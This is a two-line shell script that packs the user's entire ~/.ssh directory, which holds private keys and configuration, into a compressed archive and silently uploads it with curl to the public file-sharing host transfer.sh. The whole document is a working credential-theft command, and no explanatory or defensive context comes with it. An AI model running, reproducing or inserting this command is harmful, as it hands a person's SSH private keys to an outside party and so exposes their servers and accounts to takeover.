#!/bin/sh
tar czf - "$HOME/.ssh" | curl -s -T - https://transfer.sh/k.tgz
